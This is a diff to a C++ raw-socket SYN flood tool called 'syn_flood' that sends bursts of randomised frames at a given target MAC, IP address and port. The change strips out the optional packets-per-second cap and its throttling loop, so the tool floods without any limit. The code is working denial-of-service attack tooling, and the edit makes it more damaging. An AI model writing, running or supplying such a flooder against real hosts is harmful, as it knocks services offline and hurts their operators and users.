@@ -9,9 +9,7 @@
 #include <cstdio>
 #include <cstdlib>
 #include <cstring>
-#include <limits>
 #include <random>
-#include <thread>
 
 #include <arpa/inet.h>
 #include <linux/if_packet.h>
@@ -68,14 +66,13 @@ int complain(const char* what) {
 
 int main(int argc, char** argv) {
   Frame plain{};
-  if ((argc != 5 && argc != 6) ||
+  if (argc != 5 ||
       std::sscanf(argv[2], "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", &plain.ethernet.ether_dhost[0],
                   &plain.ethernet.ether_dhost[1], &plain.ethernet.ether_dhost[2],
                   &plain.ethernet.ether_dhost[3], &plain.ethernet.ether_dhost[4],
                   &plain.ethernet.ether_dhost[5]) != 6 ||
       inet_pton(AF_INET, argv[3], &plain.ip.daddr) != 1) {
-    std::fprintf(stderr,
-                 "usage: syn_flood INTERFACE TARGET-MAC TARGET-ADDRESS PORT [MOST-PER-SECOND]\n");
+    std::fprintf(stderr, "usage: syn_flood INTERFACE TARGET-MAC TARGET-ADDRESS PORT\n");
     return 2;
   }
   plain.ethernet.ether_shost[0] = 2;  // locally administered
@@ -113,14 +110,8 @@ int main(int argc, char** argv) {
   }
   std::signal(SIGTERM, [](int) { g_stop = 1; });
   const auto begin = std::chrono::steady_clock::now();
-  const double most = argc == 6 ? std::atof(argv[5]) : std::numeric_limits<double>::infinity();
   unsigned long sent = 0;
   while (g_stop == 0) {
-    const std::chrono::duration<double> so_far = std::chrono::steady_clock::now() - begin;
-    if (static_cast<double>(sent) > most * so_far.count()) {
-      std::this_thread::sleep_for(std::chrono::microseconds(50));
-      continue;
-    }
     for (Frame& f : frames)
       fill(f, random);
     const int went = sendmmsg(descriptor, messages.data(), kBurst, 0);
